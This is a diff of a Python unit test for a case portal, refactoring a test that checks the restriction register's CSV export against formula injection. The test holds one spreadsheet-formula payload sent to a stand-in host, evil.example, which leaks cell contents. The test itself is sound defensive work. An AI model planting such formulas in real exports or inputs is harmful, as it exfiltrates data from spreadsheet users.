@@ -12,22 +12,21 @@ from datetime import date
 
 import pytest
 
-from portal.cases import objections, register
+from portal.cases import register
 from portal.cases.casework_models import DecisionOutcome
-from portal.cases.models import CaseKind
-from tests.unit.cases.builders import CASEWORKER, REVIEWER, at, propose, started
+from portal.cases.models import CaseKind, CaseState
+from portal.cases.scenario_steps import noon
+from tests.unit.cases.read_back import MONDAY
 
 
-def test_the_register_csv_cannot_smuggle_a_formula_into_a_spreadsheet(session):
+def test_the_register_csv_cannot_smuggle_a_formula_into_a_spreadsheet(session, scenarios):
     evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    case = started(session, kind=CaseKind.OBJECTION)
+    case = scenarios.case_in(CaseState.IN_PROGRESS, CaseKind.OBJECTION, received=MONDAY)
     case.subject.full_name = evil
     session.commit()
-    objections.assess_objection(
-        session, case, grounds_raised="Fear", processing_affected=["programme"], actor=CASEWORKER
-    )
-    propose(session, case, DecisionOutcome.UPHELD, [])
-    objections.approve_decision(session, case, actor=REVIEWER, now=at(date(2026, 3, 5)))
+    scenarios.assess(case, grounds_raised="Fear", processing=["programme"])
+    scenarios.propose(case, DecisionOutcome.UPHELD)
+    scenarios.approve_decision(case, at=noon(date(2026, 3, 5)))
     rows = register.restriction_register(session)
     assert [(r.subject_name, r.processing) for r in rows] == [(evil, "programme")]
     text = register.restriction_register_csv(rows)
